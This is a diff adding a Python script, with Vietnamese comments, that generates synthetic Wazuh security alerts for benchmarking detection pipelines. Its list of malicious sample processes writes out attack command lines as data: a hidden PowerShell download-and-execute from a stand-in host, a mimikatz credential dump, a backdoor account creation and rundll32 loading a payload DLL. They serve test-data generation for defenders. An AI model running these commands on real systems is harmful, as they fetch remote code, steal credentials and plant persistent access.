@@ -0,0 +1,285 @@
+"""
+Sinh alert Wazuh giả lập theo đúng cấu trúc của wazuh_data.json (dùng cho benchmark / thử tải).
+Các loại sự kiện:
+  - Sysmon EID 1 (tạo tiến trình) và EID 11 (tạo file)      -> decoder windows_eventchannel
+  - Windows Security 4624 (logon OK) / 4625 (logon lỗi)      -> có ipAddress, targetUserName
+  - Linux sshd / sudo / pam                                  -> có data.srcip, data.srcuser, data.dstuser
+Số agent / user / IP và tỉ lệ threat đều cấu hình được; cùng seed thì cùng dữ liệu.
+
+Chạy: python synthetic_data.py --rows 100000 [--threat-ratio 0.05] [--output synthetic.feather|.json|.csv]
+"""
+import argparse
+import json
+from datetime import datetime, timezone
+import numpy as np
+import pandas as pd
+from utils import logger
+from schema import flatten_alerts
+
+# Tỉ trọng mặc định các loại sự kiện (tự chuẩn hóa về tổng 1)
+EVENT_MIX = {
+    'sysmon_process': 0.35,
+    'sysmon_file': 0.15,
+    'logon_success': 0.25,
+    'logon_failure': 0.10,
+    'linux_auth': 0.15,
+}
+
+# Tiến trình bình thường: (image, commandLine, parentImage, originalFileName, description)
+BENIGN_PROCESSES = [
+    (r'C:\Windows\System32\svchost.exe', r'C:\Windows\system32\svchost.exe -k netsvcs -p',
+     r'C:\Windows\System32\services.exe', 'svchost.exe', 'Host Process for Windows Services'),
+    (r'C:\Windows\explorer.exe', r'C:\Windows\Explorer.EXE',
+     r'C:\Windows\System32\userinit.exe', 'EXPLORER.EXE', 'Windows Explorer'),
+    (r'C:\Program Files\Google\Chrome\Application\chrome.exe',
+     r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer',
+     r'C:\Windows\explorer.exe', 'chrome.exe', 'Google Chrome'),
+    (r'C:\Windows\System32\notepad.exe', r'"C:\Windows\system32\notepad.exe"',
+     r'C:\Windows\explorer.exe', 'NOTEPAD.EXE', 'Notepad'),
+    (r'C:\Windows\System32\taskhostw.exe', r'taskhostw.exe',
+     r'C:\Windows\System32\svchost.exe', 'taskhostw.exe', 'Host Process for Windows Tasks'),
+    (r'C:\Windows\System32\SearchProtocolHost.exe', r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipe',
+     r'C:\Windows\System32\SearchIndexer.exe', 'searchprotocolhost.exe', 'Microsoft Windows Search Protocol Host'),
+    (r'C:\Windows\System32\conhost.exe', r'\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1',
+     r'C:\Windows\System32\svchost.exe', 'CONHOST.EXE', 'Console Window Host'),
+]
+
+# Tiến trình độc hại: (image, commandLine, parentImage, originalFileName, description, rule.id, level, mitre)
+MALICIOUS_PROCESSES = [
+    (r'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe',
+     r'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://10.6.6.6/a.ps1\')"',
+     r'C:\Windows\System32\cmd.exe', 'PowerShell.EXE', 'Windows PowerShell',
+     '92057', 12, ('T1059.001', 'Execution', 'PowerShell')),
+    (r'C:\Users\Public\mimikatz.exe', r'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
+     r'C:\Windows\System32\cmd.exe', 'mimikatz.exe', 'mimikatz for Windows',
+     '92900', 15, ('T1003.001', 'Credential Access', 'LSASS Memory')),
+    (r'C:\Windows\System32\net.exe', r'"C:\Windows\system32\net.exe" user hacker P@ssw0rd /add',
+     r'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe', 'net.exe', 'Net Command',
+     '92039', 12, ('T1136.001', 'Persistence', 'Local Account')),
+    (r'C:\Windows\System32\whoami.exe', r'whoami /priv',
+     r'C:\Windows\System32\cmd.exe', 'whoami.exe', 'whoami - displays logged on user information',
+     '92031', 10, ('T1033', 'Discovery', 'System Owner/User Discovery')),
+    (r'C:\Windows\System32\rundll32.exe', r'rundll32.exe C:\Windows\Temp\payload.dll,DllRegisterServer',
+     r'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe', 'RUNDLL32.EXE', 'Windows host process (Rundll32)',
+     '92026', 13, ('T1218.011', 'Defense Evasion', 'Rundll32')),
+]
+
+BENIGN_FILES = [r'C:\Users\{user}\AppData\Local\Temp\__PSScriptPolicyTest_{n}.ps1',
+                r'C:\Users\{user}\Documents\report_{n}.docx',
+                r'C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Cache\f_{n}']
+MALICIOUS_FILES = [r'C:\Windows\Temp\svch0st_{n}.exe', r'C:\Users\Public\update_{n}.exe',
+                   r'C:\ProgramData\{user}_{n}.dll']
+
+def _mitre(ids=(), tactics=(), techniques=()):
+    return {'id': list(ids), 'tactic': list(tactics), 'technique': list(techniques)}
+
+def _win_event(agent, ts, event_id, channel, message, eventdata):
+    return {
+        'agent': agent,
+        'manager': {'name': 'wazuh-manager'},
+        'data': {'win': {'eventdata': eventdata,
+                         'system': {'eventID': event_id, 'channel': channel, 'message': message,
+                                    'computer': agent['name'], 'systemTime': ts}}},
+        'decoder': {'name': 'windows_eventchannel'},
+        'location': 'EventChannel',
+    }
+
+def _sysmon_process(r, agent, user, ts, threat):
+    if threat:
+        image, cmd, parent, ofn, desc, rid, level, (mid, tactic, tech) = \
+            MALICIOUS_PROCESSES[r.integers(len(MALICIOUS_PROCESSES))]
+        rule = {'id': rid, 'level': level, 'description': f'Suspicious process execution: {ofn}',
+                'groups': ['sysmon', 'sysmon_eid1_detections', 'windows'], 'mitre': _mitre([mid], [tactic], [tech])}
+    else:
+        image, cmd, parent, ofn, desc = BENIGN_PROCESSES[r.integers(len(BENIGN_PROCESSES))]
+        rule = {'id': '61603', 'level': 3, 'description': 'Sysmon - Event 1: Process creation',
+                'groups': ['sysmon', 'sysmon_event1', 'windows']}
+    eventdata = {'image': image, 'commandLine': cmd, 'parentImage': parent, 'originalFileName': ofn,
+                 'description': desc, 'user': f'CORP\\{user}', 'processId': str(r.integers(400, 20000)),
+                 'hashes': f'SHA256={r.integers(1 << 62):016X}{r.integers(1 << 62):016X}', 'utcTime': ts}
+    alert = _win_event(agent, ts, '1', 'Microsoft-Windows-Sysmon/Operational',
+                       f'Process Create:\r\nImage: {image}\r\nCommandLine: {cmd}\r\nUser: CORP\\{user}', eventdata)
+    alert['rule'] = rule
+    return alert
+
+def _sysmon_file(r, agent, user, ts, threat):
+    n = int(r.integers(100000))
+    if threat:
+        target = MALICIOUS_FILES[r.integers(len(MALICIOUS_FILES))].format(user=user, n=n)
+        image = r'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
+        rule = {'id': '92213', 'level': 15, 'description': 'Executable file dropped in folder commonly used by malware',
+                'groups': ['sysmon', 'sysmon_eid11_detections', 'windows'],
+                'mitre': _mitre(['T1105'], ['Command and Control'], ['Ingress Tool Transfer'])}
+    else:
+        target = BENIGN_FILES[r.integers(len(BENIGN_FILES))].format(user=user, n=n)
+        image = BENIGN_PROCESSES[r.integers(len(BENIGN_PROCESSES))][0]
+        rule = {'id': '61613', 'level': 3, 'description': 'Sysmon - Event 11: File created',
+                'groups': ['sysmon', 'sysmon_event_11', 'windows']}
+    eventdata = {'image': image, 'targetFilename': target, 'user': f'CORP\\{user}', 'creationUtcTime': ts}
+    alert = _win_event(agent, ts, '11', 'Microsoft-Windows-Sysmon/Operational',
+                       f'File created:\r\nImage: {image}\r\nTargetFilename: {target}', eventdata)
+    alert['rule'] = rule
+    return alert
+
+def _logon(r, agent, user, ip, ts, failed, threat):
+    eventdata = {'targetUserName': user, 'targetDomainName': 'CORP', 'ipAddress': ip,
+                 'ipPort': str(r.integers(1024, 65535)), 'logonType': '3' if threat else str(r.choice(['2', '3', '10'])),
+                 'processName': r'C:\Windows\System32\lsass.exe', 'subjectUserName': f"{agent['name']}$",
+                 'workstationName': agent['name'], 'authenticationPackageName': 'NTLM' if threat else 'Negotiate'}
+    if failed:
+        eventdata.update({'status': '0xc000006d', 'subStatus': '0xc000006a', 'failureReason': '%%2313'})
+        if threat:
+            rule = {'id': '60204', 'level': 10, 'description': 'Multiple Windows Logon Failures',
+                    'groups': ['windows', 'windows_security', 'authentication_failures'],
+                    'mitre': _mitre(['T1110'], ['Credential Access'], ['Brute Force'])}
+        else:
+            rule = {'id': '60122', 'level': 5, 'description': 'Logon Failure - Unknown user or bad password',
+                    'groups': ['windows', 'windows_security', 'authentication_failed'],
+                    'mitre': _mitre(['T1078'], ['Defense Evasion'], ['Valid Accounts'])}
+        event_id, text = '4625', 'An account failed to log on.'
+    else:
+        rule = {'id': '60118', 'level': 3, 'description': 'Windows Workstation Logon Success',
+                'groups': ['windows', 'windows_security', 'authentication_success']}
+        event_id, text = '4624', 'An account was successfully logged on.'
+    alert = _win_event(agent, ts, event_id, 'Security',
+                       f'{text}\r\nAccount Name: {user}\r\nSource Network Address: {ip}', eventdata)
+    alert['rule'] = rule
+    return alert
+
+def _linux_auth(r, agent, user, ip, ts, threat, syslog_ts):
+    host, pid = agent['name'], int(r.integers(1000, 60000))
+    if threat:
+        data = {'srcip': ip, 'dstuser': user, 'srcport': str(r.integers(1024, 65535))}
+        rule = {'id': '5712', 'level': 10, 'description': 'sshd: brute force trying to get access to the system. Non existent user.',
+                'groups': ['syslog', 'sshd', 'authentication_failures'],
+                'mitre': _mitre(['T1110'], ['Credential Access'], ['Brute Force'])}
+        full_log = f'{syslog_ts} {host} sshd[{pid}]: Invalid user {user} from {ip} port {data["srcport"]}'
+        decoder = 'sshd'
+    else:
+        kind = r.integers(3)
+        if kind == 0:
+            data = {'srcip': ip, 'dstuser': user, 'srcport': str(r.integers(1024, 65535))}
+            rule = {'id': '5715', 'level': 3, 'description': 'sshd: authentication success.',
+                    'groups': ['syslog', 'sshd', 'authentication_success'],
+                    'mitre': _mitre(['T1078', 'T1021'], ['Defense Evasion', 'Lateral Movement'],
+                                    ['Valid Accounts', 'Remote Services'])}
+            full_log = f'{syslog_ts} {host} sshd[{pid}]: Accepted password for {user} from {ip} port {data["srcport"]} ssh2'
+            decoder = 'sshd'
+        elif kind == 1:
+            data = {'srcuser': user, 'dstuser': 'root', 'command': '/usr/bin/systemctl status wazuh-agent'}
+            rule = {'id': '5402', 'level': 3, 'description': 'Successful sudo to ROOT executed.',
+                    'groups': ['syslog', 'sudo'],
+                    'mitre': _mitre(['T1548.003'], ['Privilege Escalation'], ['Sudo and Sudo Caching'])}
+            full_log = (f'{syslog_ts} {host} sudo[{pid}]:   {user} : TTY=pts/0 ; PWD=/home/{user} ; '
+                        f'USER=root ; COMMAND={data["command"]}')
+            decoder = 'sudo'
+        else:
+            data = {'dstuser': 'root'}
+            rule = {'id': '5502', 'level': 3, 'description': 'PAM: Login session closed.', 'groups': ['pam', 'syslog']}
+            full_log = f'{syslog_ts} {host} sudo[{pid}]: pam_unix(sudo:session): session closed for user root'
+            decoder = 'pam'
+    return {'agent': agent, 'manager': {'name': 'wazuh-manager'}, 'data': data, 'rule': rule,
+            'decoder': {'name': decoder}, 'full_log': full_log, 'location': 'journald'}
+
+def generate_alerts(n, n_agents=50, n_users=200, n_ips=1000, n_attacker_ips=20, threat_ratio=0.05,
+                    events_per_sec=50.0, event_mix=None, seed=42, start=None):
+    """
+    Sinh n alert Wazuh (dict lồng nhau như alert thật) theo thứ tự thời gian tăng dần.
+    - n_agents / n_users / n_ips: số agent, user, IP nguồn bình thường khác nhau
+    - n_attacker_ips: số IP tấn công (brute force 4625 / sshd dùng các IP này)
+    - threat_ratio: tỉ lệ alert độc hại (mimikatz, powershell tải script, file .exe thả vào Temp, brute force...)
+    - events_per_sec: tốc độ sự kiện trung bình (quyết định khoảng thời gian dữ liệu trải ra)
+    Trả về generator để sinh dữ liệu lớn mà không phải giữ toàn bộ list trong RAM.
+    """
+    r = np.random.default_rng(seed)
+    mix = event_mix or EVENT_MIX
+    kinds = list(mix)
+    weights = np.array([mix[k] for k in kinds], dtype=float)
+    weights /= weights.sum()
+
+    agents = []
+    for i in range(n_agents):
+        windows = i % 4 != 3   # 3/4 agent Windows, 1/4 Linux
+        agents.append({'id': f'{i + 1:03d}', 'name': f'{"WIN" if windows else "linux"}-{i + 1:03d}',
+                       'ip': f'10.10.{i // 250}.{i % 250 + 1}', 'windows': windows})
+    win_agents = [{k: v for k, v in a.items() if k != 'windows'} for a in agents if a['windows']] or \
+                 [{k: v for k, v in a.items() if k != 'windows'} for a in agents]
+    lin_agents = [{k: v for k, v in a.items() if k != 'windows'} for a in agents if not a['windows']] or win_agents
+    users = [f'user{i:04d}' for i in range(n_users)]
+    ips = [f'192.168.{i // 250}.{i % 250 + 1}' for i in range(n_ips)]
+    attacker_ips = [f'185.{100 + i // 250}.{i % 250}.{7 + i % 13}' for i in range(max(n_attacker_ips, 1))]
+
+    start = start or datetime(2025, 11, 25, tzinfo=timezone.utc)
+    start_ms = int(start.timestamp() * 1000)
+    batch = 10000
+    for offset in range(0, n, batch):
+        m = min(batch, n - offset)
+        # Rút ngẫu nhiên theo lô (nhanh hơn gọi rng từng dòng)
+        kind_idx = r.choice(len(kinds), size=m, p=weights)
+        threats = r.random(m) < threat_ratio
+        gaps = r.exponential(1000.0 / events_per_sec, size=m)
+        times = start_ms + np.cumsum(gaps).astype(np.int64)
+        start_ms = int(times[-1])
+        user_idx = r.integers(len(users), size=m)
+        ip_idx = r.integers(len(ips), size=m)
+        atk_idx = r.integers(len(attacker_ips), size=m)
+        win_idx = r.integers(len(win_agents), size=m)
+        lin_idx = r.integers(len(lin_agents), size=m)
+
+        for j in range(m):
+            dt = datetime.fromtimestamp(times[j] / 1000, tz=timezone.utc)
+            ts = dt.strftime('%Y-%m-%dT%H:%M:%S.') + f'{dt.microsecond // 1000:03d}+0000'
+            kind, threat, user = kinds[kind_idx[j]], bool(threats[j]), users[user_idx[j]]
+            ip = attacker_ips[atk_idx[j]] if threat else ips[ip_idx[j]]
+            if kind == 'sysmon_process':
+                alert = _sysmon_process(r, win_agents[win_idx[j]], user, ts, threat)
+            elif kind == 'sysmon_file':
+                alert = _sysmon_file(r, win_agents[win_idx[j]], user, ts, threat)
+            elif kind in ('logon_success', 'logon_failure'):
+                # Logon "thành công" mà bị đánh dấu threat -> coi là 1 lần thử trong chuỗi brute force
+                alert = _logon(r, win_agents[win_idx[j]], user, ip, ts, kind == 'logon_failure' or threat, threat)
+            else:
+                alert = _linux_auth(r, lin_agents[lin_idx[j]], user, ip, ts, threat, dt.strftime('%b %d %H:%M:%S'))
+            alert['rule']['firedtimes'] = 1
+            alert['id'] = f'{times[j] // 1000}.{offset + j}'
+            alert['timestamp'] = ts
+            yield alert
+
+def generate_dataframe(n, chunksize=50000, **kwargs):
+    """Sinh n alert rồi làm phẳng theo schema.ALERT_FIELDS (giống dữ liệu daemon/train nhận được)"""
+    frames, chunk = [], []
+    for alert in generate_alerts(n, **kwargs):
+        chunk.append(alert)
+        if len(chunk) >= chunksize:
+            frames.append(flatten_alerts(chunk))
+            chunk = []
+    if chunk:
+        frames.append(flatten_alerts(chunk))
+    if not frames:
+        return pd.DataFrame()
+    return pd.concat(frames, ignore_index=True)
+
+if __name__ == '__main__':
+    parser = argparse.ArgumentParser(description='Sinh alert Wazuh giả lập')
+    parser.add_argument('--rows', type=int, default=100000)
+    parser.add_argument('--agents', type=int, default=50)
+    parser.add_argument('--users', type=int, default=200)
+    parser.add_argument('--ips', type=int, default=1000)
+    parser.add_argument('--threat-ratio', type=float, default=0.05)
+    parser.add_argument('--seed', type=int, default=42)
+    parser.add_argument('--output', required=True, help='.json (list alert gốc), .feather (spool) hoặc .csv')
+    args = parser.parse_args()
+
+    opts = dict(n_agents=args.agents, n_users=args.users, n_ips=args.ips,
+                threat_ratio=args.threat_ratio, seed=args.seed)
+    if args.output.endswith('.json'):
+        with open(args.output, 'w', encoding='utf-8') as f:
+            json.dump(list(generate_alerts(args.rows, **opts)), f)
+    else:
+        df = generate_dataframe(args.rows, **opts)
+        if args.output.endswith('.feather'):
+            from spool import write_spool
+            write_spool(df, args.output)
+        else:
+            df.to_csv(args.output, index=False)
+    logger.info(f"✅ Đã sinh {args.rows} alert giả lập -> {args.output}")